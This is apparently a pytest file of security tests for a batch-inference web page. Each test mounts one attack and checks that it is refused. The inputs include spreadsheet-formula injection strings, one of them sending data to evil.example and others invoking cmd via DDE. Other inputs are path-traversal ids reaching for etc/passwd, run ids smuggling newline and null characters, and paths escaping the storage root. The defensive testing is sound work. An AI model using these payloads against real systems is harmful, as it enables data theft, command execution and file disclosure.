"""Attacks on the Batch inference page (issue #38), each through HTTP against the real FastAPI app
(``tests/ui/app_harness.py``: the real routes, guard, views and storage reads; a fake auth manager and
metadata DB). Every test is one attack and passes only when it is refused.

The victim is a run of ``batch_inference_nightly`` (:data:`VICTIM_DAG`) whose manifest, report and dead
letters carry planted secrets; ``mallory`` may read the runs of ``batch_inference_backfill``
(:data:`DAG`) only, and can make that DAG's runs point anywhere (an XCom, a backfill reusing a run id).
``no_secrets`` checks that nothing of the victim reaches the attacker.
"""

from __future__ import annotations

import csv
import io
import json
import os
import tracemalloc
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from airflow.api_fastapi.auth.managers.models.resource_details import DagAccessEntity
from batch_contract import storage
from batch_contract.layout import DEAD_LETTER_PREFIX, RunLayout, join_uri
from batch_contract.runstore import RunStore
from batch_contract.schemas import DEAD_LETTER_SCHEMA
from batch_inference.ui.deadletters import FORMULA_PREFIXES
from ui.app_harness import DAG, RUN, UiHarness, allow_only, make_run, record, run_path

VICTIM_DAG = "batch_inference_nightly"
SUFFIXES = ["", "/report.html", "/manifest.json", "/dead-letters.jsonl", "/dead-letters.csv"]
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
GRANTS = {"mallory": {(DAG, None), (DAG, DagAccessEntity.RUN)},
          "victim": {(VICTIM_DAG, None), (VICTIM_DAG, DagAccessEntity.RUN)},
          "reader": {(DAG, None), (VICTIM_DAG, None)}}        # may read the DAGs, not their runs


def _victim(root: Path, planted, run_id: str = RUN, dag_id: str | None = VICTIM_DAG) -> RunLayout:
    """A run of :data:`VICTIM_DAG` whose manifest params, report and a dead letter carry planted secrets."""
    layout = make_run(root, dag_id, run_id,
                      manifest_params={"dag_id": VICTIM_DAG, "note": planted.variable})
    storage.write_replace(layout.report_html_uri, f"<html>{planted.conn_password}</html>".encode())
    src = RunStore(layout).manifest.input.files[0].uri
    _write_dead(layout, "00099-planted", [{"id": planted.env, "reason": "empty_text", "detail": planted.key_mark,
                                           "source_uri": src, "source_row": 5, "fingerprint": "f" * 32}])
    return layout


def _write_dead(layout: RunLayout, name: str, rows: list[dict], row_group_size: int | None = None) -> str:
    path = join_uri(layout.shard_dir("00000"), f"{DEAD_LETTER_PREFIX}{name}.parquet")
    pq.write_table(pa.Table.from_pylist(rows, schema=DEAD_LETTER_SCHEMA), path, row_group_size=row_group_size)
    return path


def _bodies(ui: UiHarness, dag_id: str, run_id: str, user: str = "mallory") -> list[tuple[int, str]]:
    out = []
    for suffix in SUFFIXES:
        resp = ui.get(run_path(dag_id, run_id, suffix), user=user)
        out.append((resp.status_code, resp.text))
    api = ui.get(f"/api{run_path(dag_id, run_id)}", user=user)
    return [*out, (api.status_code, api.text)]


@pytest.fixture
def roots(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """``(allowed, outside)``: the only allowed storage root, and a directory beside it."""
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    allowed.mkdir()
    outside.mkdir()
    allow_only(monkeypatch, allowed)
    return allowed, outside


def test_formula_cells_in_the_csv_are_neutralised(roots, monkeypatch: pytest.MonkeyPatch) -> None:
    """Input ids, reasons, details and source URIs that are spreadsheet formulas: no CSV cell starts one."""
    layout = make_run(roots[0], ids=FORMULAS + [str(i) for i in range(13)], dead_rows=range(len(FORMULAS)))
    _write_dead(layout, "00098-evil", [{"id": f, "reason": f, "detail": f, "source_uri": f, "source_row": 1000 + i,
                                        "fingerprint": f} for i, f in enumerate(FORMULAS)])
    ui = UiHarness(monkeypatch, [record(DAG, RUN, layout.run_dir)], GRANTS)
    resp = ui.get(run_path(DAG, RUN, "/dead-letters.csv"), user="mallory")
    assert resp.status_code == 200
    table = list(csv.reader(io.StringIO(resp.text, newline="")))
    cells = [cell for row in table[1:] for cell in row]
    assert len(table) == 1 + 2 * len(FORMULAS)
    assert [c for c in cells if c.startswith(FORMULA_PREFIXES)] == []
    assert {"'" + f for f in FORMULAS} <= set(cells)


def test_no_response_with_run_data_may_be_cached(roots, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages, API answers and downloads all say ``Cache-Control: no-store`` (and ``nosniff``); downloads are
    attachments."""
    layout = make_run(roots[0])
    storage.write_replace(layout.report_html_uri, b"<html>report</html>")
    ui = UiHarness(monkeypatch, [record(DAG, RUN, layout.run_dir)], GRANTS)
    for path in ["/", "/api/runs", f"/api{run_path(DAG, RUN)}"] + [run_path(DAG, RUN, s) for s in SUFFIXES]:
        resp = ui.get(path, user="mallory")
        assert resp.status_code == 200, path
        assert resp.headers.get("cache-control") == "no-store", path
        assert resp.headers.get("x-content-type-options") == "nosniff", path
        if path.endswith((".json", ".jsonl", ".csv")):
            assert resp.headers["content-disposition"].startswith("attachment;"), path


def test_a_run_dir_of_another_dag_is_refused(roots, planted, no_secrets, monkeypatch: pytest.MonkeyPatch) -> None:
    """The attacker's run points at the victim DAG's run of the same run id (``runs/<victim dag>/<run>``)."""
    victim = _victim(roots[0], planted)
    ui = UiHarness(monkeypatch, [record(DAG, RUN, victim.run_dir), record(VICTIM_DAG, RUN, victim.run_dir)], GRANTS)
    bodies = _bodies(ui, DAG, RUN)
    assert [status for status, _ in bodies] == [403] * len(bodies)
    assert f"is of DAG '{VICTIM_DAG}', not of '{DAG}'" in bodies[0][1]
    listed = ui.get("/api/runs", user="mallory").json()["runs"]
    assert [(r["run_id"], r["figures"], r["run_dir"]) for r in listed] == [(RUN, None, None)]
    no_secrets(*(text for _, text in bodies), json.dumps(listed), ui.get("/", user="mallory").text)
    assert ui.get(run_path(VICTIM_DAG, RUN, "/manifest.json"), user="victim").status_code == 200   # still served


@pytest.mark.parametrize("where", ["own run dir", "older run dir"])
def test_a_manifest_of_another_dag_is_refused(roots, planted, no_secrets, monkeypatch: pytest.MonkeyPatch,
                                              where: str) -> None:
    """The attacker's run dir holds the victim DAG's manifest (a backfill with the victim's run id reused
    it), or points at an older shared ``runs/<run_id>`` planned by the victim DAG."""
    if where == "own run dir":
        victim = _victim(roots[0], planted, dag_id=DAG)                     # at runs/<attacker dag>/<run>
    else:
        victim = _victim(roots[0], planted, dag_id=None)                    # at runs/<run>
    ui = UiHarness(monkeypatch, [record(DAG, RUN, victim.run_dir)], GRANTS)
    bodies = _bodies(ui, DAG, RUN)
    assert [status for status, _ in bodies] == [403] * len(bodies)
    assert f"is of DAG '{VICTIM_DAG}', not of '{DAG}'" in bodies[0][1]
    no_secrets(*(text for _, text in bodies), ui.get("/api/runs", user="mallory").text)


@pytest.mark.parametrize("run_id", [RUN + "\n", RUN + "\r\n", RUN + " ", RUN + "\x00"])
def test_a_run_id_with_a_trailing_newline_is_refused(roots, planted, no_secrets, monkeypatch: pytest.MonkeyPatch,
                                                      run_id: str) -> None:
    """A DagRun whose id is the victim-named run's id plus a newline (a ``$``-anchored pattern let it in),
    its run dir that of the real run: neither the run page nor the list shows that run's data."""
    victim = _victim(roots[0], planted, dag_id=DAG)
    ui = UiHarness(monkeypatch, [record(DAG, run_id, victim.run_dir)], GRANTS)
    bodies = _bodies(ui, DAG, run_id)
    assert {status for status, _ in bodies} <= {403, 404} and bodies[0][0] == 404
    listed = ui.get("/api/runs", user="mallory").json()["runs"]
    assert [(r["figures"], r["run_dir"]) for r in listed] == [(None, None)] and "refused" in listed[0]["problem"]
    no_secrets(*(text for _, text in bodies), json.dumps(listed))


def test_dag_read_without_run_read_lists_no_runs(roots, planted, no_secrets, monkeypatch: pytest.MonkeyPatch) -> None:
    """``reader`` may read both DAGs but the runs of neither: the list is empty, every run route 403."""
    victim = _victim(roots[0], planted)
    ui = UiHarness(monkeypatch, [record(VICTIM_DAG, RUN, victim.run_dir)], GRANTS)
    assert ui.get("/api/runs", user="reader").json() == {"runs": []}
    page = ui.get("/", user="reader").text
    bodies = _bodies(ui, VICTIM_DAG, RUN, user="reader")
    assert [status for status, _ in bodies] == [403] * len(bodies)
    assert ("reader", "GET", DagAccessEntity.RUN, VICTIM_DAG) in ui.auth.asked
    no_secrets(page, *(text for _, text in bodies))


def _raw_bodies(ui: UiHarness, dag_id: str, run_id: str) -> list[tuple[int, str]]:
    """Every run route of ``/runs/<dag_id>/<run_id>`` with the ids exactly as written (no client resolves
    ``..`` or re-encodes anything): ``(status, body)`` each."""
    out = []
    for path in [f"/runs/{dag_id}/{run_id}{s}" for s in SUFFIXES] + [f"/api/runs/{dag_id}/{run_id}"]:
        parts: list[bytes] = []
        status, _, _, _ = ui.asgi_get(path, "mallory", parts.append)
        out.append((status, b"".join(parts).decode("utf-8", "replace")))
    return out


@pytest.mark.parametrize(("dag_id", "run_id"), [
    (DAG, ".."), (DAG, "."), ("..", RUN), (DAG, "%2e%2e"), (DAG, "%2E%2E"), ("%2e%2e", RUN),
    (DAG, "..%2F..%2F" + VICTIM_DAG + "%2F" + RUN), (DAG, "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("..%2Fruns%2F" + VICTIM_DAG, RUN), (DAG, "..%5C..%5Cetc"), (DAG, RUN + "%2F..%2F..%2F" + VICTIM_DAG + "%2F" + RUN),
])
def test_path_traversal_in_the_ids_is_refused(roots, planted, no_secrets, monkeypatch: pytest.MonkeyPatch,
                                              dag_id: str, run_id: str) -> None:
    """Ids with ``..`` / ``/`` / ``\\`` (plain or percent-encoded) in the URL, even when the metadata DB
    held such a run whose run dir is the victim's: refused (404) before any read, nothing of the victim in
    any answer."""
    from urllib.parse import unquote

    victim = _victim(roots[0], planted)
    bad = (unquote(dag_id), unquote(run_id))
    ui = UiHarness(monkeypatch, [record(*bad, victim.run_dir), record(DAG, RUN, victim.run_dir)],
                   {"mallory": {(bad[0], DagAccessEntity.RUN), (DAG, DagAccessEntity.RUN)}}, batch_dags=[bad[0], DAG])
    bodies = _raw_bodies(ui, dag_id, run_id)
    assert {status for status, _ in bodies} <= {403, 404}, bodies
    no_secrets(*(text for _, text in bodies), ui.get("/api/runs", user="mallory").text)


@pytest.mark.parametrize("run_dir", ["{outside}/runs/{dag}/{run}", "{allowed}/../outside/runs/{dag}/{run}",
                                     "file://{outside}/runs/{dag}/{run}", "{allowed}/escape/runs/{dag}/{run}",
                                     "gs://attacker-bucket/runs/{dag}/{run}"])
def test_a_run_dir_outside_the_roots_is_refused(roots, planted, no_secrets, monkeypatch: pytest.MonkeyPatch,
                                                run_dir: str) -> None:
    """The attacker's run dir XCom points outside the allowed root: another directory, a climb with ``..``,
    a ``file://`` URI, a symlink inside the root, another bucket."""
    allowed, outside = roots
    _victim(outside, planted, dag_id=DAG)
    os.symlink(outside, allowed / "escape")
    value = run_dir.format(allowed=allowed, outside=outside, dag=DAG, run=RUN)
    ui = UiHarness(monkeypatch, [record(DAG, RUN, value)], GRANTS)
    bodies = _bodies(ui, DAG, RUN)
    assert [status for status, _ in bodies] == [403] * len(bodies)
    assert f"is outside the output roots of DAG '{DAG}'" in bodies[0][1]
    no_secrets(*(text for _, text in bodies), ui.get("/api/runs", user="mallory").text)


@pytest.mark.parametrize("run_dir", ["runs/{dag}/{run}", "./runs/{dag}/{run}", "file://runs/{dag}/{run}",
                                     "runs/{run}"])
def test_a_relative_run_dir_is_refused(roots, monkeypatch: pytest.MonkeyPatch, run_dir: str) -> None:
    """A relative run dir XCom is refused, not resolved against whatever directory the API server runs in
    (here an allowed root holding a run of the DAG: what the relative path would name there)."""
    allowed, _ = roots
    make_run(allowed)
    make_run(allowed, dag_id=None, manifest_params={"dag_id": DAG})
    monkeypatch.chdir(allowed)
    value = run_dir.format(dag=DAG, run=RUN)
    ui = UiHarness(monkeypatch, [record(DAG, RUN, value)], GRANTS)
    bodies = _bodies(ui, DAG, RUN)
    assert [status for status, _ in bodies] == [403] * len(bodies)
    assert "is relative: a run dir is an absolute path or a URI" in bodies[0][1]


def test_a_huge_dead_letter_file_is_streamed_in_bounded_memory(roots, monkeypatch: pytest.MonkeyPatch) -> None:
    """A dead-letter file of ~13 MB (50,000 rows of 256 incompressible characters): the download streams
    (many chunks, no Content-Length) and neither Python's (tracemalloc) nor Arrow's allocations come near
    the file size."""
    rows = 50_000
    layout = make_run(roots[0], rows=rows, dead_rows=(), chunk_rows=rows)
    src = RunStore(layout).manifest.input.files[0].uri
    detail = [os.urandom(128).hex() for _ in range(rows)]
    path = _write_dead(layout, "00001-huge", [{"id": str(i), "reason": "empty_text", "detail": detail[i],
                                               "source_uri": src, "source_row": i, "fingerprint": "f" * 32}
                                              for i in range(rows)], row_group_size=2000)
    del detail
    size = Path(path).stat().st_size
    assert size > 12_000_000
    ui = UiHarness(monkeypatch, [record(DAG, RUN, layout.run_dir)], GRANTS)
    arrow_base = pa.total_allocated_bytes()
    seen = {"arrow": 0, "lines": 0}

    def on_chunk(chunk: bytes) -> None:
        seen["arrow"] = max(seen["arrow"], pa.total_allocated_bytes() - arrow_base)
        seen["lines"] += chunk.count(b"\r\n")

    tracemalloc.start()
    try:
        status, headers, body, chunks = ui.asgi_get(run_path(DAG, RUN, "/dead-letters.csv"), "mallory", on_chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert status == 200 and "content-length" not in headers and headers["cache-control"] == "no-store"
    assert seen["lines"] == rows + 1 and body > size                  # every row left, header included
    assert chunks > 50                                                 # streamed, not one body
    assert peak < size / 4, f"Python peak {peak} bytes for a {size}-byte file"
    assert seen["arrow"] < size / 4, f"Arrow held {seen['arrow']} bytes for a {size}-byte file"
